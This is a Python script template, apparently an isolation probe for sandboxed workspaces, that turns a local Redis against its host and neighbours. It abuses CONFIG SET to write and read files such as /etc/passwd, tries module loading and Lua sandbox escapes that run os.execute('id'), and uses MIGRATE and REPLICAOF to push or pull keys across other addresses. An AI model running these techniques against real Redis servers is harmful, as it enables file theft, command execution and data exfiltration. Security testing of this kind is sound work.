# Runs in a service of `%FROM%`: everything that its own Redis does for a client, turned against others.
import socket, subprocess, time

ADDRESSES, HOST, OWN = json.loads('''%ADDRESSES%'''), json.loads('''%HOST%'''), '%OWN%'

class Redis:
    def __init__(self, port=6379, host='127.0.0.1'):
        self.line = socket.create_connection((host, port), 5)
        self.heard = self.line.makefile('rb')
    def __call__(self, *words):
        words = [w if isinstance(w, bytes) else str(w).encode() for w in words]
        self.line.sendall(b'*%d\r\n' % len(words) + b''.join(b'$%d\r\n%s\r\n' % (len(w), w) for w in words))
        return self.answer()
    def answer(self):
        line = self.heard.readline()[:-2].decode(errors='replace')
        kind, rest = line[:1], line[1:]
        if kind == '$': return None if rest == '-1' else self.heard.read(int(rest) + 2)[:-2].decode(errors='replace')
        if kind == '*': return [self.answer() for _ in range(max(int(rest), 0))]
        return line
def well(answer): return not (isinstance(answer, str) and answer.startswith('-')) and answer is not None

redis, found, works = Redis(), {}, {}
def note(what, detail): found.setdefault(what, []).append(detail)

# Files: of the host, of its neighbours, of the workspace's own user.
marked = 'of-redis-of-%FROM%'
for name, values in {'dir': ['/', '/etc', '/tmp', '/var/tmp', '/workspace', '/run', '/run/envforge', '/dev/shm', '/proc/1/root/tmp', *json.loads('''%DIRS%''')],
        'dbfilename': [marked, '../' + marked, '../../../../workspace/' + marked, '/tmp/' + marked], 'appenddirname': ['../x'], 'appendfilename': ['../x'],
        'logfile': ['/tmp/' + marked], 'pidfile': ['/tmp/' + marked], 'unixsocket': ['/tmp/' + marked], 'aclfile': ['/etc/passwd'], 'include': ['/etc/passwd'], 'loadmodule': ['/tmp/x.so'],
        'enable-module-command': ['yes', 'local'], 'enable-protected-configs': ['yes'], 'enable-debug-command': ['yes']}.items():
    for value in values:
        if well(redis('config', 'set', name, value)): note('set', [name, value])
        redis('save')
works['set'] = redis('config', 'set', 'maxclients', '1000') == '+OK'
works['saved'] = redis('save') == '+OK'
for words in (['module', 'load', '/tmp/x.so'], ['module', 'loadex', '/tmp/x.so'], ['config', 'rewrite'], ['acl', 'load'], ['acl', 'save'], ['debug', 'reload'], ['debug', 'loadaof'],
              ['debug', 'sleep', '0'], ['debug', 'set-active-expire', '1'], ['debug', 'change-repl-id'], ['debug', 'segfault'], ['cluster', 'meet', ADDRESSES[0], '6379'], ['failover', 'to', ADDRESSES[0], '6379'],
              ['sentinel', 'monitor', 'x', ADDRESSES[0], '6379', '1'], ['restore', 'x', '0', 'not dumped']):
    # Some end the connection.
    if well(Redis()(*words)): note('done', words)
for text in ("return io.open('/etc/passwd'):read()", "return io.lines('/etc/passwd')()", "return dofile('/etc/passwd')", "return loadfile('/etc/passwd')()", "return os.execute('id')",
             "return os.getenv('PATH')", "return require('os').tmpname()", "return package.loadlib('/usr/lib/x86_64-linux-gnu/liblua5.1.so.0', 'luaopen_io')()",
             "return debug.getinfo(1).source", "return getmetatable('').__index.x()", "return newproxy(true)", "return getfenv(0).io.open('/etc/passwd')", "return redis.call('config', 'set', 'dir', '/tmp')",
             "return redis.call('replicaof', '%s', '6379')" % ADDRESSES[0], "return redis.call('migrate', '%s', '6379', 'secret', '0', '100', 'copy')" % ADDRESSES[0],
             "return load(string.dump(function() end))()", "return setmetatable(_G, {})"):
    said = redis('eval', text, '0')
    if well(said): note('script', [text, said])
    if well(redis('function', 'load', 'replace', '#!lua name=x\nredis.register_function(\'f\', function() %s end)' % text)) and well(redis('fcall', 'f', '0')): note('function', text)
works['script'] = redis('eval', "return redis.call('get', 'secret')", '0') == 'of r'
works['function'] = well(redis('function', 'load', 'replace', "#!lua name=x\nredis.register_function('f', function() return 'called' end)")) and redis('fcall', 'f', '0') == 'called'

# Keys that are sent to others, and those of others that are fetched. A second server of one's own shows how it goes.
PORT = 6400
second = subprocess.Popen(['redis-server', '--port', str(PORT), '--bind', OWN, '127.0.0.1', '--protected-mode', 'no', '--save', '', '--dir', '/tmp', '--repl-diskless-sync-delay', '0'], stdout=subprocess.DEVNULL)
for look in range(500):
    try: own = Redis(PORT); break
    except OSError: time.sleep(0.02)
while not well(own('ping')): time.sleep(0.02)
for address in ADDRESSES:
    for port in (6379, PORT, 5432, 3000):
        for words in (['secret'], ['', 'copy', 'keys', 'secret', 'own']):
            said = redis('migrate', address, port, words[0], 0, 100, *(words[1:] or ['copy']))
            if well(said): note('sent', [address, port, said])
works['sent'] = redis('migrate', OWN, PORT, 'secret', 0, 2000, 'copy') == '+OK' and own('get', 'secret') == 'of r'
# At every address of one's own, from one's own: whether others get there is for the caller to see.
works['everywhere'] = redis('config', 'set', 'bind', '* -::*') == '+OK' and well(Redis(6379, OWN)('ping'))
def follows(address, port, most, states=('handshake', 'sync', 'connected')):
    """Whether it comes to one of these states as a replica in so many seconds, and in how many."""
    begun = time.monotonic()
    redis('replicaof', address, port)
    while time.monotonic() - begun < most:
        if redis('role')[3] in states: return time.monotonic() - begun
        time.sleep(0.005)
    return None
own('set', 'secret', 'of the second')
kept = [(key, redis('get', key)) for key in redis('keys', '*')]
took = follows(OWN, PORT, 30)
works['followed'] = took is not None and follows(OWN, PORT, 30, ['connected']) is not None and redis('get', 'secret') == 'of the second'
redis('replicaof', 'no', 'one')
redis('flushall')
for key, value in kept: redis('set', key, value)
for address in ADDRESSES + HOST:
    if follows(address, 6379, 2 * (took or 1)) is not None: note('followed', address)
redis('replicaof', 'no', 'one')
works['as before'] = redis('get', 'secret') == 'of r'
second.kill()
second.wait()
tell({'found': found, 'fails': [what for what, fine in works.items() if not fine]})
